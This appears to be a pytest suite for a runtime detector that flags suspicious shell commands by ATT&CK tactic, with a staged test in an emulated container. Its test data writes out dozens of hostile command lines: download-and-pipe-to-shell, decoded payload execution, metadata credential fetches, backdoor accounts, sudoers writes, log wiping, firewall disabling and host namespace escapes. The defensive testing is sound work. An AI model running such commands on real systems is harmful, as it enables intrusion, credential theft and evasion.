"""*/Runtime/SuspiciousCommand: the pattern file's loader, each tactic's shapes, and commands really run in the task.

The table tests run the detector on command lines (pure pattern logic); the staged test runs real commands in the
emulated task through the sidecar, including a pipeline typed at a prompt (`curl ... | sh` read by an interactive
shell from its stdin), which no single process holds.
"""

from __future__ import annotations

import re
import time
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from findings import container_of, context_of, process_of
from taskenv import SidecarHandle, TaskEnv

from collectors.events import ProcessInfo, RuntimeEvent
from collectors.process_table import ProcessTable
from detectors.base import DetectorContext
from detectors.commands import SuspiciousCommandDetector, command_catalog, parse_commands
from detectors.finding import Finding
from detectors.tools import CatalogError

EXE = {"sh": "/usr/bin/dash", "python3": "/usr/bin/python3.11", "perl": "/usr/bin/perl"}


def proc(cl: str, pid: int, parent_uuid: str = "parent") -> ProcessInfo:
    first = cl.split(maxsplit=1)[0]
    exe = EXE.get(first, "/usr/bin/" + first.rsplit("/", 1)[-1])
    return ProcessInfo(
        pid=pid, nspid=pid, ppid=1, name=first.rsplit("/", 1)[-1][:15], executable_path=exe,
        executable_deleted=False, executable_sha256=None, command_line=cl, cwd="/", uid=0, euid=0, gid=0, egid=0,
        user="root", euser="root", start_ticks=pid, start_time=1000.0 + pid, uuid=f"u{pid}",
        parent_uuid=parent_uuid, ld_preload=None, ld_library_path=None, container=None, mnt_ns=None,
    )  # fmt: skip


E, D, P, PE, DE = "Execution", "Discovery", "Persistence", "PrivilegeEscalation", "DefenseEvasion"
BAD: list[tuple[str, str, str]] = [
    ("sh -c curl -fsSL http://x.example/i.sh | sh", E, "download_pipe_to_shell"),
    ("sh -c wget -q -O- http://x/y | bash -s", E, "download_pipe_to_shell"),
    ("sh -c curl http://x | sudo bash", E, "download_pipe_to_shell"),
    ('sh -c bash -c "$(curl -fsSL http://x)"', E, "download_subshell_exec"),
    ("sh -c bash <(curl -s http://x)", E, "download_subshell_exec"),
    ("sh -c wget -O /tmp/x http://h/x; chmod +x /tmp/x; /tmp/x", E, "download_chmod_execute"),
    ("sh -c cd /tmp && curl -o kw http://h/kw && chmod 755 kw && ./kw", E, "download_chmod_execute"),
    ("python3 -c import urllib.request;exec(urllib.request.urlopen('http://x').read())", E, "interpreter_fetch_exec"),
    ('perl -e use LWP::Simple; eval(get("http://x/a"))', E, "interpreter_fetch_exec"),
    ("sh -c echo ZWNobyBoaQ== | base64 -d | sh", E, "decode_pipe_to_shell"),
    ("sh -c echo ZWNobyBoaQ== | base64 --decode | bash", E, "decode_pipe_to_shell"),
    ("sh -c echo 6964 | xxd -r -p | sh", E, "decode_pipe_to_shell"),
    ('sh -c eval "$(echo aWQ= | base64 -d)"', E, "decode_subshell_exec"),
    ("python3 -c exec(base64.b64decode('cHJpbnQoMSk='))", E, "interpreter_decode_exec"),
    ("python3 -c exec(__import__('base64').b64decode('cHJpbnQoMSk='))", E, "interpreter_decode_exec"),
    ("curl http://169.254.169.254/latest/meta-data/iam/security-credentials/", D, "cloud_metadata_credentials"),
    ("sh -c curl -s 169.254.170.2$AWS_CONTAINER_CREDENTIALS_RELATIVE_URI", D, "cloud_metadata_credentials"),
    ("aws sts get-caller-identity", D, "aws_cli_recon"),
    ("aws secretsmanager get-secret-value --secret-id prod/db", D, "aws_cli_recon"),
    ("cat /root/.aws/credentials", D, "credential_file_read"),
    ("cat /proc/1/environ", D, "proc_environ_dump"),
    ("sh -c cat /proc/*/environ", D, "proc_environ_dump"),
    ("find / -name id_rsa", D, "private_key_search"),
    ("grep -rE AKIA[0-9A-Z]{16} /", D, "secret_grep"),
    ("capsh --print", D, "container_discovery"),
    ("cat /proc/1/cgroup", D, "container_discovery"),
    ("sh -c mount | grep overlay", D, "container_discovery"),
    ("crontab /tmp/cron", P, "crontab_install"),
    ("sh -c echo ssh-rsa AAAA >> /root/.ssh/authorized_keys", P, "authorized_keys_write"),
    ("useradd -m -s /bin/bash backdoor", P, "account_created"),
    ("usermod -aG sudo bob", P, "privileged_group_added"),
    ("systemctl enable evil.service", P, "service_persistence"),
    ("sh -c echo /tmp/x >> /etc/rc.local", P, "service_persistence"),
    ("chmod u+s /tmp/x", PE, "setuid_bit_set"),
    ("chmod 4755 /tmp/x", PE, "setuid_bit_set"),
    ("sh -c cp /bin/sleep /tmp/h && chmod u+s /tmp/h", PE, "setuid_bit_set"),  # a simple command of the text
    ("sudo -n chmod 4755 /tmp/h", PE, "setuid_bit_set"),
    ("sh -c (crontab -l; echo '* * * * * /tmp/x') | crontab -", P, "crontab_install"),
    ("setcap cap_setuid+ep /usr/bin/python3", PE, "dangerous_capability_set"),
    ("find / -perm -4000 -type f", PE, "setuid_search"),
    ("sudo -l", PE, "sudo_list"),
    ('sh -c echo "bob ALL=(ALL) NOPASSWD: ALL" >> /etc/sudoers', PE, "sudoers_write"),
    ("sh -c history -c", DE, "history_tampering"),
    ("sh -c unset HISTFILE; id", DE, "history_tampering"),
    ("ln -sf /dev/null /root/.bash_history", DE, "history_tampering"),
    ("sh -c cat /dev/null > /var/log/syslog", DE, "log_tampering"),
    ("truncate -s 0 /var/log/messages", DE, "log_tampering"),
    ("journalctl --vacuum-time=1s", DE, "log_tampering"),
    ("rm -rf /var/log/*", DE, "log_deletion"),
    ("iptables -F", DE, "firewall_disabled"),
    ("iptables -P INPUT ACCEPT", DE, "firewall_disabled"),
    ("ufw disable", DE, "firewall_disabled"),
    ("systemctl stop firewalld", DE, "firewall_disabled"),
    ("setenforce 0", DE, "firewall_disabled"),
    ("sh -c echo /tmp/evil.so > /etc/ld.so.preload", DE, "ld_preload_takeover"),
    ("sh -c export LD_PRELOAD=/tmp/evil.so; ls", DE, "ld_preload_takeover"),
    ("systemctl stop auditd", DE, "security_service_stopped"),
    # fetched or decoded into a file, then run by an interpreter
    ("sh -c curl -s http://h/x.sh -o /tmp/i.sh && sh /tmp/i.sh", E, "download_then_run"),
    ("sh -c wget -O /tmp/x.sh http://h/x; bash /tmp/x.sh", E, "download_then_run"),
    ("sh -c curl -sSLo i.sh http://h/i && bash ./i.sh", E, "download_then_run"),
    ("sh -c curl http://h/x > /tmp/x.py; python3 /tmp/x.py", E, "download_then_run"),
    ("sh -c echo ZWNobwo= | base64 -d > /tmp/.p; bash /tmp/.p", E, "download_then_run"),
    # decode-and-execute with pass-through stages, escaped or reversed text
    ("sh -c echo H4sIAAAA | base64 -d | gunzip | sh", E, "decode_pipe_to_shell"),
    ("sh -c echo /Td6WFoA | base64 -d | xz -d | bash", E, "decode_pipe_to_shell"),
    ("sh -c curl -s http://h/x | tee /tmp/.t | sh", E, "download_pipe_to_shell"),
    ("sh -c curl -s http://h/x.gz | gzip -d | bash", E, "download_pipe_to_shell"),
    ("sh -c wget -qO- http://h/x | tr a-z n-za-m | python3", E, "download_pipe_to_shell"),
    (r"sh -c printf '\x69\x64\x3b\x20\x75\x6e\x61\x6d\x65' | sh", E, "decode_pipe_to_shell"),
    (r"sh -c printf '\151\144\073\040' | bash", E, "decode_pipe_to_shell"),
    ("sh -c echo '3 peels ;di' | rev | bash", E, "decode_pipe_to_shell"),
    ('perl -e eval pack("H*","73797374656d28226964222920")', E, "interpreter_decode_exec"),
    ("perl -e eval(pack('H*','7379'))", E, "interpreter_decode_exec"),
    # the metadata addresses written another way
    ("curl http://2852039166/latest/meta-data/", D, "cloud_metadata_credentials"),
    ("curl http://0xa9fea9fe/latest/", D, "cloud_metadata_credentials"),
    ("wget -qO- http://0xA9FEA9FE/latest/", D, "cloud_metadata_credentials"),
    ("curl http://0251.0376.0251.0376/latest/", D, "cloud_metadata_credentials"),
    ("curl -g http://[::ffff:a9fe:a9fe]/latest/", D, "cloud_metadata_credentials"),
    ("curl -g http://[::ffff:169.254.169.254]/latest/", D, "cloud_metadata_credentials"),
    ("curl http://2852039170/v2/credentials/x", D, "cloud_metadata_credentials"),
    ("sh -c curl -s http://0xa9feaa02$AWS_CONTAINER_CREDENTIALS_RELATIVE_URI", D, "cloud_metadata_credentials"),
    ("python3 -c import urllib.request as u; u.urlopen('http://2852039166/')", D, "cloud_metadata_credentials"),
    ("getcap -r / 2>/dev/null", PE, "setuid_search"),
    # reaching for the host
    ("nsenter -t 1 -m -u -i -n sh", PE, "host_namespace_entry"),
    ("nsenter --target 1 --mount --uts sh", PE, "host_namespace_entry"),
    ("sh -c nsenter -t1 -a sh; true", PE, "host_namespace_entry"),
    ("mount /dev/xvda1 /mnt", PE, "host_namespace_entry"),
    ("mount -t proc proc /mnt/p", PE, "host_namespace_entry"),
    ("mount -t cgroup -o rdma cgroup /mnt", PE, "host_namespace_entry"),
    ("unshare -UrmC bash", PE, "host_namespace_entry"),
    ("unshare -r", PE, "host_namespace_entry"),
    # log tampering: the system records or the whole tree
    ("truncate -s 0 /var/log/auth.log", DE, "log_tampering"),
    ("shred -u /var/log/wtmp", DE, "log_tampering"),
    ("find /var/log -type f -exec truncate -s 0 {} ;", DE, "log_tampering"),
    ("find /var/log/ -delete", DE, "log_tampering"),
    # accounts: a system account is only a finding as uid 0, in a privileged group or with a password
    ("useradd -r -o -u 0 x", P, "account_created"),
    ("useradd --system --uid 0 x", P, "account_created"),
    ("sh -c useradd -r app && echo pw | passwd app", P, "account_created"),
    ("sh -c useradd -r app && echo app:pw | chpasswd", P, "account_created"),
]
GOOD = [
    "sh -c for i in 1 2 3; do echo $i | wc -c; done",
    "curl -f http://localhost/health",
    "wget -q -O- http://example.com/x",
    "sh -c wget -q -O- http://example.com/x > /tmp/out",
    "sh -c echo hello | base64",
    "sh -c chmod +x build/app && ./build/app --version",
    "chmod +x /tmp/build/a.out",
    "crontab -l",
    'sh -c exec nginx -g "daemon off;"',
    'sh -c curl -s http://api/x | python3 -c "import sys,json; print(json.load(sys.stdin))"',
    "sh -c curl -s http://api/x | python3 -m json.tool",
    "sh -c curl -s http://api/x | sha256sum",
    "grep nmap notes.txt",
    "apt-cache show iptables",
    "chmod 2775 /shared",
    "setcap cap_net_bind_service=+ep /usr/bin/node",
    "sh -c LD_PRELOAD=/usr/lib/x86_64-linux-gnu/libjemalloc.so.2 python3 app.py",
    "sh -c exec app > /var/log/app.log 2>&1",
    "sh -c app >> /var/log/app.log",
    "rm /var/log/app/app.log.1",
    "sh -c echo $AWS_CONTAINER_CREDENTIALS_RELATIVE_URI",
    "curl http://169.254.170.2/v4/metadata",
    "find /app -name *.py",
    "grep -n password_reset app.py",
    "cp /root/.ssh/authorized_keys /backup/",
    "iptables -L -n",
    "systemctl restart nginx",
    "useradd --help",
    'python3 -c import base64; print(base64.b64encode(b"x"))',
    # an installer checked against a checksum or a signature before it runs
    "sh -c curl -o /tmp/install.sh http://h/i && sha256sum -c sums && sh /tmp/install.sh",
    "sh -c curl -o /tmp/i.sh http://h/i && gpg --verify /tmp/i.sh.asc /tmp/i.sh && sh /tmp/i.sh",
    "sh -c curl -sLo /tmp/i.sh http://h/i && cosign verify-blob --key k --signature s /tmp/i.sh && sh /tmp/i.sh",
    "sh -c curl -s http://h/x -o /tmp/out.json && python3 app.py",
    "sh -c wget -O /tmp/app.tgz http://h/app.tgz && tar xzf /tmp/app.tgz",
    # ordinary filters
    "sh -c curl -s http://api/x | tr a b",
    "sh -c echo abc | rev",
    r"sh -c printf 'a\tb\tc\td\n' | sort",
    "sh -c curl -s http://api/x | gunzip | tar x",
    # not the metadata service
    "curl http://2852039/x",
    "curl http://10.0.0.1:2852/x",
    # not escapes: a read-only NFS mount, nsenter into a sibling process
    "mount -r -t nfs h:/x /mnt",
    "nsenter -t 4242 -n ss -tln",
    # an application's own log, emptied after a copy (copytruncate), and an age-based cleanup
    "truncate -s 0 /var/log/nginx/access.log",
    "sh -c cp /var/log/app.log /var/log/app.log.1 && truncate -s 0 /var/log/app.log",
    "find /var/log -name *.gz -mtime +7 -delete",
    # entrypoints creating their service user
    "sh -c id app || useradd -r -u 10001 -M app",
    "useradd -r -U -m app",
    "adduser --system --no-create-home app",
    "sh -c addgroup -S app && adduser -S -G app app",
    "adduser -S -D -H -u 1000 app",
]


def detect(detector: SuspiciousCommandDetector, info: ProcessInfo) -> list[tuple[str, str]]:
    return [(d.type.split(":")[0], d.key[0]) for d in detector.on_event(RuntimeEvent("process.exec", info))]


@pytest.mark.parametrize(("cl", "tactic", "pattern"), BAD, ids=[b[0][:48] for b in BAD])
def test_each_pattern_fires(cl: str, tactic: str, pattern: str) -> None:
    det = SuspiciousCommandDetector(DetectorContext(table=ProcessTable()))
    assert detect(det, proc(cl, 100)) == [(tactic, pattern)]


@pytest.mark.parametrize("cl", GOOD, ids=[g[:48] for g in GOOD])
def test_benign_commands_do_not_fire(cl: str) -> None:
    det = SuspiciousCommandDetector(DetectorContext(table=ProcessTable()))
    assert detect(det, proc(cl, 100)) == []


def test_levels_follow_the_catalog() -> None:
    by_name = command_catalog().by_name
    assert by_name["download_pipe_to_shell"].level == "high"
    assert by_name["history_tampering"].level == "medium"
    assert by_name["security_service_stopped"].level == "low"
    assert by_name["crontab_install"].level is None


def test_one_command_one_finding() -> None:
    """`sh -c "cat /proc/*/environ"` then its cat child: the child is not reported again under that pattern."""
    det = SuspiciousCommandDetector(DetectorContext(table=ProcessTable()))
    assert detect(det, proc("sh -c strings /proc/*/environ", 10)) == [("Discovery", "proc_environ_dump")]
    assert detect(det, proc("strings /proc/1/environ /proc/7/environ", 11, parent_uuid="u10")) == []
    # a simple command inside the text: its program's own exec is covered too
    assert detect(det, proc("sh -c cp /bin/sleep /tmp/h && chmod u+s /tmp/h", 20)) == [
        ("PrivilegeEscalation", "setuid_bit_set")
    ]
    assert detect(det, proc("chmod u+s /tmp/h", 21, parent_uuid="u20")) == []
    # the same program from somewhere else is its own finding
    assert detect(det, proc("strings /proc/1/environ", 12, parent_uuid="other")) == [("Discovery", "proc_environ_dump")]


def typed(det: SuspiciousCommandDetector, *lines: tuple[str, int]) -> list[str]:
    """Children of one prompt shell, exec'd in the order given (pid = fork order): the pipelines reported."""
    out = []
    for cl, pid in lines:
        info = proc(cl, 5_000_000 + pid)  # above any pid_max: /proc never has it (as when a stage has exited)
        out += [str(d.context["commandLineExample"]) for d in det.on_event(RuntimeEvent("process.exec", info))]
    return out


def test_typed_pipelines_through_filters() -> None:
    det = SuspiciousCommandDetector(DetectorContext(table=ProcessTable()))
    assert typed(det, ("curl -s http://h/x.gz", 10), ("gunzip", 11), ("sh", 12)) == [
        "curl -s http://h/x.gz | gunzip | sh"
    ]
    # seen in another order than forked (a poller's scan): the source, seen last, completes it
    det = SuspiciousCommandDetector(DetectorContext(table=ProcessTable()))
    assert typed(det, ("tee /tmp/.t", 21), ("sh", 22), ("curl -s http://h/x", 20)) == [
        "curl -s http://h/x | tee /tmp/.t | sh"
    ]
    det = SuspiciousCommandDetector(DetectorContext(table=ProcessTable()))
    assert typed(det, ("base64 -d", 30), ("xz -d", 31), ("bash", 32)) == ["base64 -d | xz -d | bash"]
    # a stage reading a file is not a pass-through: `curl url > f; cat f | sh`, nor is compressing
    for stage in ("cat /tmp/o.sh", "gzip -9"):
        det = SuspiciousCommandDetector(DetectorContext(table=ProcessTable()))
        assert typed(det, ("curl -s http://h/x", 40), (stage, 41), ("sh", 42)) == []


@pytest.mark.parametrize(
    ("text", "message"),
    [
        ('[[pattern]]\nname = "x"\ntype = "Execution:Runtime/SuspiciousCommand"\nmitre = "T1059"\ntactic = "t"\n'
         'shell = ["a"]\n', "pattern #1 (x): Execution:Runtime/SuspiciousCommand needs a level, one of high, low"),
        ('[[pattern]]\nname = "x"\ntype = "Discovery:Runtime/SuspiciousCommand"\nlevel = "high"\nmitre = "T1082"\n'
         'tactic = "t"\nshell = ["a"]\n', "Discovery:Runtime/SuspiciousCommand has one severity; remove level 'high'"),
        ('[[pattern]]\nname = "x"\ntype = "Discovery:Runtime/Nope"\nmitre = "T1082"\ntactic = "t"\nshell = ["a"]\n',
         "type 'Discovery:Runtime/Nope' is not one of"),
        ('[[pattern]]\nname = "x"\ntype = "Discovery:Runtime/SuspiciousCommand"\nmitre = "1082"\ntactic = "t"\n'
         'shell = ["a"]\n', "mitre '1082' is not an ATT&CK technique id"),
        ('[[pattern]]\nname = "x"\ntype = "Discovery:Runtime/SuspiciousCommand"\nmitre = "T1082"\ntactic = "t"\n',
         "pattern #1 (x): needs shell regexes, program names or both"),
        ('[[pattern]]\nname = "x"\ntype = "Discovery:Runtime/SuspiciousCommand"\nmitre = "T1082"\ntactic = "t"\n'
         'shell = ["(a"]\n', "pattern #1 (x): shell regex '(a' does not compile"),
        ('[[pattern]]\nname = "x"\ntype = "Discovery:Runtime/SuspiciousCommand"\nmitre = "T1082"\ntactic = "t"\n'
         'args = ["a"]\nshell = ["a"]\n', "pattern #1 (x): args given without program"),
        ('[[pattern]]\nname = "x"\ntype = "Discovery:Runtime/SuspiciousCommand"\nmitre = "T1082"\ntactic = "t"\n'
         'shell = ["a"]\nparent = "mum"\n', "parent 'mum' is not one of noninteractive, shell"),
        ("[pipeline]\nwindow_seconds = 99\n", "[pipeline]: window_seconds must be a number in (0, 30]"),
        ("[pipeline]\n", "the pipeline needs a pattern named 'download_pipe_to_shell'"),
    ],
)  # fmt: skip
def test_pattern_file_validation(text: str, message: str) -> None:
    with pytest.raises(CatalogError) as info:
        parse_commands(text, "c.toml")
    assert message in str(info.value) and str(info.value).startswith("c.toml")


# -- staged in the emulated task ----------------------------------------------------------------------------------

TYPE_OF = {
    "download_pipe_to_shell": ("Execution:Runtime/SuspiciousCommand", 8.0),
    "decode_pipe_to_shell": ("Execution:Runtime/SuspiciousCommand", 8.0),
    "private_key_search": ("Discovery:Runtime/SuspiciousCommand", 2.0),
    "authorized_keys_write": ("Persistence:Runtime/SuspiciousCommand", 5.0),
    "setuid_bit_set": ("PrivilegeEscalation:Runtime/SuspiciousCommand", 5.0),
    "history_tampering": ("DefenseEvasion:Runtime/SuspiciousCommand", 5.0),
    "firewall_disabled": ("DefenseEvasion:Runtime/SuspiciousCommand", 8.0),
    "download_then_run": ("Execution:Runtime/SuspiciousCommand", 5.0),
    "cloud_metadata_credentials": ("Discovery:Runtime/SuspiciousCommand", 2.0),
    "setuid_search": ("PrivilegeEscalation:Runtime/SuspiciousCommand", 5.0),
    "host_namespace_entry": ("PrivilegeEscalation:Runtime/SuspiciousCommand", 5.0),
}
PORT = 8089
# a web server in the task: /p.sh a script (/slow.sh the same, sent in two parts), /p.sh.gz the same gzipped
# (sent in two parts, so the pipeline's stages are all alive for a while), /ids lines of text sent slowly
SERVER = f"""
import gzip, http.server, os, threading, time
BODY = b"echo payload ran\\n"
class H(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        self.send_response(200)
        self.end_headers()
        if self.path == "/ids":
            for i in range(4):
                self.wfile.write(b"%d\\n" % i); self.wfile.flush(); time.sleep(0.4)
        elif self.path == "/slow.sh":  # a real download takes a while: both ends of the pipe are alive
            self.wfile.write(BODY[:5]); self.wfile.flush(); time.sleep(0.8); self.wfile.write(BODY[5:])
        elif self.path.endswith(".gz"):
            z = gzip.compress(BODY)
            self.wfile.write(z[:10]); self.wfile.flush(); time.sleep(0.8); self.wfile.write(z[10:])
        else:
            self.wfile.write(BODY)
    def log_message(self, *a):
        pass
threading.Timer(120, os._exit, (0,)).start()
http.server.ThreadingHTTPServer(("127.0.0.1", {PORT}), H).serve_forever()
"""


def command_findings(sidecar: SidecarHandle) -> list[dict[str, Any]]:
    """This detector's findings (other detectors report SuspiciousCommand types too, under their own patterns)."""
    names = command_catalog().by_name
    return [
        f
        for f in sidecar.findings()
        if f["type"].endswith("Runtime/SuspiciousCommand") and context_of(f).get("patternName") in names
    ]


def pattern_is(name: str, container: str) -> Callable[[dict[str, Any]], bool]:
    return lambda f: (
        f["type"].endswith("/SuspiciousCommand")
        and context_of(f).get("patternName") == name
        and (container_of(f) == container)
    )


def exec_containing(text: str) -> Callable[[dict[str, Any]], bool]:
    return lambda e: e["kind"] == "process.exec" and text in (e["process"]["commandLine"] or "")


def test_commands_staged_in_the_task(task_env: TaskEnv, tmp_path: Path) -> None:
    for c in ("app", "worker"):
        task_env.path_in(c, "/tmp/p.sh").write_text("echo payload ran\n")
    task_env.path_in("app", "/tmp/server.py").write_text(SERVER)
    # tools that must not really run here, dropped under their names (scripts): nsenter would enter the host's pid 1
    for tool in ("ufw", "nsenter"):
        task_env.path_in("app", f"/tmp/{tool}").write_text("#!/bin/sh\nsleep 0.3\n")
        task_env.path_in("app", f"/tmp/{tool}").chmod(0o755)
    sidecar = task_env.start_detecting(tmp_path)
    run = task_env.run
    run("app", ["sh", "-c", "exec /usr/bin/python3 /tmp/server.py >/tmp/server.log 2>&1"], wait=False)
    url = f"http://127.0.0.1:{PORT}"
    for _ in range(50):
        answer = run("worker", ["curl", "-sS", f"{url}/p.sh"])
        if answer == (0, "echo payload ran\n"):
            break
        time.sleep(0.2)
    else:
        pytest.fail(
            f"the web server in the task never answered: {answer}"
            f" {task_env.path_in('app', '/tmp/server.log').read_text()}"
        )
    # one-shot download-and-execute: the sh -c holds the whole line
    assert run("app", ["sh", "-c", "curl -s file:///tmp/p.sh | sh"]) == (0, "payload ran\n")
    # the same typed at a prompt: an interactive shell reading its stdin forks curl and sh as siblings
    assert run("worker", ["sh"], stdin=f"curl -s {url}/slow.sh | sh\n") == (0, "payload ran\n")
    # decode-and-execute
    assert run("app", ["sh", "-c", "echo ZWNobyBkZWNvZGVkCg== | base64 -d | sh"]) == (0, "decoded\n")
    run("app", ["sh", "-c", "find /root /home -name id_rsa; true"])
    run("app", ["sh", "-c", "mkdir -p /root/.ssh && echo 'ssh-ed25519 AAAAC3 test' >> /root/.ssh/authorized_keys"])
    run("app", ["sh", "-c", "cp /bin/sleep /tmp/helper && chmod u+s /tmp/helper"])
    run("app", ["sh", "-c", "unset HISTFILE; sleep 0.2"])
    # a firewall tool that is not installed: a script under its name
    run("app", ["sh", "-c", "chmod +x /tmp/ufw && /tmp/ufw disable"])
    # fetched to a file, then run
    assert run("app", ["sh", "-c", f"curl -s {url}/p.sh -o /tmp/i.sh && sh /tmp/i.sh"]) == (0, "payload ran\n")
    # the metadata address in decimal (curl is pointed at the task's own server: no traffic leaves loopback)
    meta = f"curl -s -m 2 --connect-to ::127.0.0.1:{PORT} http://2852039166/latest/meta-data/"
    assert run("app", ["sh", "-c", meta]) == (0, "echo payload ran\n")
    run("app", ["sh", "-c", "getcap -r /usr/bin 2>/dev/null; true"])
    run("app", ["sh", "-c", "/tmp/nsenter -t 1 -m -u -i -n sh"])
    # typed at a prompt through a filter: curl, gunzip and bash are three children of the prompt's shell
    assert run("app", ["sh"], stdin=f"curl -s {url}/p.sh.gz | gunzip | bash\n") == (0, "payload ran\n")

    found = {name: sidecar.wait_for_finding(pattern_is(name, "app"), timeout=20) for name in TYPE_OF}
    prompt = sidecar.wait_for_finding(pattern_is("download_pipe_to_shell", "worker"), timeout=20)
    gunzip = sidecar.wait_for_finding(
        lambda f: pattern_is("download_pipe_to_shell", "app")(f) and process_of(f)["executablePath"] == "/usr/bin/bash",
        timeout=20,
    )
    # (gunzip is a script here, "/bin/sh /usr/bin/gunzip", that execs "gzip -d" in its place: either may be seen)
    example = context_of(gunzip)["commandLineExample"]
    assert re.fullmatch(rf"curl -s {url}/p\.sh\.gz \| (?:/bin/sh /usr/bin/gunzip|gzip -d) \| bash", example), example
    assert gunzip["severity"] == 8.0
    for name, f in found.items():
        Finding.model_validate(f)
        assert (f["type"], f["severity"]) == TYPE_OF[name], name
    assert context_of(found["download_pipe_to_shell"])["commandLineExample"] == "sh -c curl -s file:///tmp/p.sh | sh"
    assert context_of(found["decode_pipe_to_shell"])["commandLineExample"].endswith("| base64 -d | sh")
    assert context_of(prompt)["commandLineExample"] == f"curl -s {url}/slow.sh | sh"
    assert prompt["severity"] == 8.0
    assert prompt["service"]["runtimeDetails"]["process"]["executablePath"] == "/usr/bin/dash"
    assert (
        context_of(found["setuid_bit_set"])["commandLineExample"]
        == "sh -c cp /bin/sleep /tmp/helper && chmod u+s /tmp/helper"
    )
    assert context_of(found["firewall_disabled"])["commandLineExample"] == "sh -c chmod +x /tmp/ufw && /tmp/ufw disable"
    assert (
        context_of(found["download_then_run"])["commandLineExample"]
        == f"sh -c curl -s {url}/p.sh -o /tmp/i.sh && sh /tmp/i.sh"
    )
    assert context_of(found["cloud_metadata_credentials"])["commandLineExample"].endswith(
        "http://2852039166/latest/meta-data/"
    )
    assert context_of(found["host_namespace_entry"])["mitreTechniqueId"] == "T1611"
    assert "getcap -r /usr/bin" in context_of(found["setuid_search"])["commandLineExample"]

    # benign look-alikes, in "worker" (where only the prompt pipeline fired). Each ends with a marker sleep: a
    # short-lived program can exit before the process poller reads it, the shell that ran it (and the marker) cannot.
    benign: list[tuple[list[str], str | None]] = [
        (["sh", "-c", "for i in 1 2 3; do echo $i | wc -c; done"], None),
        (["sh", "-c", "curl -sf http://127.0.0.1:9/health || true"], None),
        (["sh", "-c", "curl -s file:///tmp/p.sh > /tmp/copy.sh"], None),
        (["sh", "-c", "echo hello | base64"], None),
        (["sh", "-c", "cp /bin/true /tmp/a.out && chmod +x /tmp/a.out && /tmp/a.out"], None),
        (["sh", "-c", "tar czf /tmp/etc.tgz -C / etc && git --version"], None),
        # at a prompt: a download to a file, then a local file piped into sh
        (["sh"], "curl -s file:///tmp/p.sh > /tmp/o.sh; cat /tmp/o.sh | sh\n"),
        (["sh"], "cat /tmp/p.sh | sh\n"),
        (["sh", "-c", "chmod 2775 /tmp"], None),
        (["sh", "-c", "grep -r 'curl.*sh' /tmp/p.sh"], None),
        # at a prompt: a download read by a `while read` loop, a subshell forked by the prompt's shell (never exec'd).
        # In bash: a false alarm would be a finding of its own (executable bash), not a repeat of the dash one above
        (["bash"], f"curl -s {url}/ids | while read l; do echo id $l; done\n"),
        (["sh"], f"curl -s {url}/ids | while read l; do echo id $l; done\n"),
        # an installer checked against its checksum before it runs
        (
            [
                "sh",
                "-c",
                f"curl -s -o /tmp/in.sh {url}/p.sh && sha256sum /tmp/in.sh > /tmp/sums && sha256sum -c /tmp/sums"
                " && sh /tmp/in.sh",
            ],
            None,
        ),
        # copytruncate of an application's log
        (
            [
                "sh",
                "-c",
                "mkdir -p /var/log/nginx && echo GET > /var/log/nginx/access.log && cp /var/log/nginx/access.log"
                " /var/log/nginx/access.log.1 && truncate -s 0 /var/log/nginx/access.log",
            ],
            None,
        ),
        # an entrypoint creating its service user (system accounts)
        (["sh", "-c", "id app || useradd -r -u 10001 -M app"], None),
        (["sh", "-c", "adduser --system --no-create-home svc"], None),
    ]
    for n, (argv, stdin) in enumerate(benign):
        marker = f"sleep 0.2{n}"
        if stdin is not None:
            run("worker", argv, stdin=stdin + marker + "\n")
        else:
            run("worker", [*argv[:-1], f"{argv[-1]}; {marker}"])
        sidecar.wait_for_event(exec_containing(marker), timeout=15)
    time.sleep(1.5)
    worker = {
        (f["type"], context_of(f)["patternName"], process_of(f)["executablePath"])
        for f in command_findings(sidecar)
        if container_of(f) == "worker"
    }
    assert worker == {("Execution:Runtime/SuspiciousCommand", "download_pipe_to_shell", "/usr/bin/dash")}
    app = {context_of(f)["patternName"] for f in command_findings(sidecar) if container_of(f) == "app"}
    assert app == set(TYPE_OF)
    assert sidecar.stop() == 0
